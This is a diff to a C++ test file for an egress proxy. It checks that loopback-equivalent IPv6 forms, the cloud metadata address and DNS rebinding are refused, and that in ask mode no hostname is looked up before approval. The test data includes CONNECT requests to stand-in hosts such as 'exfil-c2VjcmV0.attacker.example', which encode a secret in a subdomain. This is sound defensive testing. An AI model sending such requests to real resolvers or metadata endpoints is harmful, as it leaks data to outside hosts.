@@ -222,6 +222,10 @@ private Q_SLOTS:
         for (const QString& target : {QStringLiteral("localhost:%1").arg(port()),
                                       QStringLiteral("127.0.0.1:%1").arg(port()),
                                       QStringLiteral("[::ffff:127.0.0.1]:%1").arg(port()),
+                                      // IPv4-translated and local-use NAT64: a translator on
+                                      // the path could make them this machine.
+                                      QStringLiteral("[::ffff:0:127.0.0.1]:%1").arg(port()),
+                                      QStringLiteral("[64:ff9b:1::7f00:1]:%1").arg(port()),
                                       QStringLiteral("169.254.169.254:80")}) {
             QTcpSocket client;
             connectClient(client);
@@ -230,9 +234,9 @@ private Q_SLOTS:
             QVERIFY2(answer.startsWith("HTTP/1.1 403"), answer.constData());
             QVERIFY2(answer.contains("allow rule"), answer.constData());
         }
-        QTRY_COMPARE(ended.size(), 4);
+        QTRY_COMPARE(ended.size(), 6);
         QVERIFY(
-            ended.at(3).at(0).value<EgressConnection>().reason.contains(QLatin1String("metadata")));
+            ended.at(5).at(0).value<EgressConnection>().reason.contains(QLatin1String("metadata")));
         QCOMPARE(upstreamConnections, 0);
     }
 
@@ -253,8 +257,9 @@ private Q_SLOTS:
                          .arg(question.host)
                          .arg(question.port)
                          .arg(question.runLabel);
-            done(false);
+            done(question.host == QLatin1String("rebind.example"));
         });
+        // Allowed when asked, then refused on what it resolves to.
         QTcpSocket rebind;
         connectClient(rebind);
         QVERIFY(
@@ -263,8 +268,50 @@ private Q_SLOTS:
         connectClient(askedClient);
         const QByteArray answer = exchange(askedClient, "CONNECT new.example:443 HTTP/1.1\r\n\r\n");
         QVERIFY2(answer.contains("denied when asked"), answer.constData());
-        QCOMPARE(asked, QStringList{QStringLiteral(
-                            "new.example:443 (Python run started 10:00:00: import requests)")});
+        QCOMPARE(asked,
+                 (QStringList{QStringLiteral("rebind.example:443 (Python run started 10:00:00: "
+                                             "import requests)"),
+                              QStringLiteral("new.example:443 (Python run started 10:00:00: "
+                                             "import requests)")}));
+    }
+
+    // A lookup carries the name (and whatever a program encoded in it) to the resolver and
+    // beyond: in ask mode no name is looked up before someone allowed it.
+    void askModeAsksBeforeTheNameIsLookedUp()
+    {
+        EgressProxy& proxy = start(EgressMode::Ask, {});
+        QStringList lookedUp;
+        proxy.setResolver(
+            [&lookedUp](const QString& host, std::function<void(QList<QHostAddress>)> done) {
+                lookedUp << host;
+                done({QHostAddress(QStringLiteral("93.184.215.14"))});
+            });
+        // No one to ask (a headless server): refused, never looked up.
+        QTcpSocket headless;
+        connectClient(headless);
+        const QByteArray unasked =
+            exchange(headless, "CONNECT exfil-c2VjcmV0.attacker.example:443 HTTP/1.1\r\n\r\n");
+        QVERIFY2(unasked.startsWith("HTTP/1.1 403") && unasked.contains("no one to ask"),
+                 unasked.constData());
+        QCOMPARE(lookedUp, QStringList());
+        // Denied when asked: never looked up either; allowed: looked up after the answer.
+        QStringList events;
+        proxy.setAsker([&](const EgressQuestion& question, std::function<void(bool)> done) {
+            events << QStringLiteral("asked ") + question.host;
+            QCOMPARE(lookedUp, QStringList());
+            done(question.host == QLatin1String("allowed.example"));
+        });
+        QTcpSocket denied;
+        connectClient(denied);
+        QVERIFY(exchange(denied, "CONNECT exfil-2.attacker.example:443 HTTP/1.1\r\n\r\n")
+                    .contains("denied when asked"));
+        QCOMPARE(lookedUp, QStringList());
+        QTcpSocket allowed;
+        connectClient(allowed);
+        allowed.write("CONNECT allowed.example:443 HTTP/1.1\r\n\r\n");
+        QTRY_COMPARE(lookedUp, QStringList{QStringLiteral("allowed.example")});
+        QCOMPARE(events, (QStringList{QStringLiteral("asked exfil-2.attacker.example"),
+                                      QStringLiteral("asked allowed.example")}));
     }
 
     void badInputAndLimits()
